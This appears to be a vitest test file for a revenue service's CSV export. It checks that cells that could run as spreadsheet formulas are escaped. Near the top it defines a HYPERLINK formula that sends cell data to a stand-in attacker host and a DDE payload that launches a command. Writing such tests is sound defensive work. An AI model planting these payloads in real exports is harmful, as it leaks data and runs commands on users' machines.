import { describe, expect, it } from "vitest";
import { csvLine } from "../../src/http/csv-writer";
import { csv, row } from "../batch/revenue-csv-fixtures";
import { acceptedJob, finishedJob, get, putRecord, record } from "../batch/support/batch-api";
import { ingest, revenueData, waitForRevenue } from "../support/events";
import { createTenant } from "../support/fixtures";
import { call } from "../support/http";

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const DDE = "+cmd|' /C calc'!A0";

/** Splits RFC 4180 text into rows of cells (quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") cells.push(cell), (cell = "");
    else if (ch === "\r" && text[i + 1] === "\n") {
      cells.push(cell);
      rows.push(cells);
      (cells = []), (cell = ""), i++;
    } else cell += ch;
  }
  return rows;
}

describe("CSV cells a spreadsheet would run as formulas (security)", () => {
  it("escapes text cells starting with = + - @ tab or CR as OWASP says: a leading ' and quotes", () => {
    expect(csvLine(["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "plain", "a;=1+2"], { escapeFormulas: true })).toBe(
      `"'=1+2","'+1+2","'-1+2","'@SUM(A1)","'\t=1","'\r=1",plain,"a;=1+2"\r\n`,
    );
    expect(csvLine(['=HYPERLINK("x")'], { escapeFormulas: true })).toBe(`"'=HYPERLINK(""x"")"\r\n`);
  });

  it("never escapes numbers, nor a plain decimal in a numeric column", () => {
    const numeric = new Set([0, 1]);
    expect(csvLine(["-5.00", -500, "-5.00", "-5.00+1"], { escapeFormulas: true, numericColumns: numeric })).toBe(
      `-5.00,-500,"'-5.00","'-5.00+1"\r\n`,
    );
    expect(csvLine(["-5.00+cmd", 3], { escapeFormulas: true, numericColumns: numeric })).toBe(`"'-5.00+cmd",3\r\n`);
  });

  it("GET /v1/{siteId}/revenue?format=csv escapes formula cells by default, keeps amounts numbers, and gives raw cells with escape_formulas=false", async () => {
    const t = await createTenant();
    const put = await putRecord(t.site.id, t.secret, { ...record, Reference: HYPERLINK, Labels: ["@SUM(1+1)", DDE] });
    expect(put.status).toBe(201);
    expect((await ingest(t.secret, "revenue", revenueData({ event_type: "refund", amount: -5, customer_id: "=1+2" }))).status).toBe(202);
    await waitForRevenue(t.site.id, t.secret, 2);

    const auth = { headers: { authorization: `Bearer ${t.secret}` } };
    const escaped = await call(`/v1/${t.site.id}/revenue?format=csv`, auth);
    expect(escaped.status).toBe(200);
    const [header, ...lines] = parseCsv(await escaped.text());
    const col = (name: string) => header!.indexOf(name);
    const single = lines.find((l) => l[col("source")] === "single")!;
    const refund = lines.find((l) => l[col("source")] === "event")!;
    expect(single[col("external_id")]).toBe(`'${HYPERLINK}`);
    expect(single[col("labels")]).toBe(`'@SUM(1+1);${DDE}`);
    expect(refund[col("customer_id")]).toBe("'=1+2");
    expect(refund[col("amount")]).toBe("-5.00");
    expect(refund[col("amount_minor")]).toBe("-500");

    const raw = await call(`/v1/${t.site.id}/revenue?format=csv&escape_formulas=false`, auth);
    const [, ...rawLines] = parseCsv(await raw.text());
    const rawSingle = rawLines.find((l) => l[col("source")] === "single")!;
    expect(rawSingle[col("external_id")]).toBe(HYPERLINK);
    expect(rawSingle[col("labels")]).toBe(`@SUM(1+1);${DDE}`);

    // JSON is data for programs: always as stored.
    const json = (await (await call(`/v1/${t.site.id}/revenue`, auth)).json()) as { data: Array<Record<string, unknown>> };
    expect(json.data.find((r) => r.source === "single")?.external_id).toBe(HYPERLINK);
  });

  it("the failures report CSV escapes formula cells by default (Value stays a number) and gives raw cells with escape_formulas=false", async () => {
    const t = await createTenant();
    const cells = { Reference: HYPERLINK, Label: "@SUM(1+1)", EmailAddress: "-2+3+cmd@x.example", Value: "-5.00" };
    const text = csv([row(1, cells)]);
    await finishedJob(t.site.id, t.secret, await acceptedJob(t.site.id, t.secret, text));
    // The same row again fails as a duplicate, so it appears in the failures report.
    const jobId = await acceptedJob(t.site.id, t.secret, text);
    expect(await finishedJob(t.site.id, t.secret, jobId)).toMatchObject({ status: "failed", failureCount: 1 });

    const [header, failed] = parseCsv(await (await get(`/v1/${t.site.id}/batch/${jobId}/failures`, t.secret)).text());
    const col = (name: string) => header!.indexOf(name);
    expect(failed![col("RowNumber")]).toBe("1");
    expect(failed![col("Reference")]).toBe(`'${HYPERLINK}`);
    expect(failed![col("Label")]).toBe("'@SUM(1+1)");
    expect(failed![col("EmailAddress")]).toBe("'-2+3+cmd@x.example");
    expect(failed![col("Value")]).toBe("-5.00");

    const [, rawFailed] = parseCsv(await (await get(`/v1/${t.site.id}/batch/${jobId}/failures?escape_formulas=false`, t.secret)).text());
    expect(rawFailed![col("Reference")]).toBe(HYPERLINK);
    expect(rawFailed![col("EmailAddress")]).toBe("-2+3+cmd@x.example");

    const json = (await (await get(`/v1/${t.site.id}/batch/${jobId}/failures?format=json`, t.secret)).json()) as Array<
      Record<string, unknown>
    >;
    expect(json[0]?.Reference).toBe(HYPERLINK);
  });

  it("refuses an escape_formulas value other than true or false", async () => {
    const t = await createTenant();
    const res = await call(`/v1/${t.site.id}/revenue?format=csv&escape_formulas=maybe`, {
      headers: { authorization: `Bearer ${t.secret}` },
    });
    expect(res.status).toBe(400);
    expect(JSON.stringify(await res.json())).toContain("escape_formulas");
  });
});
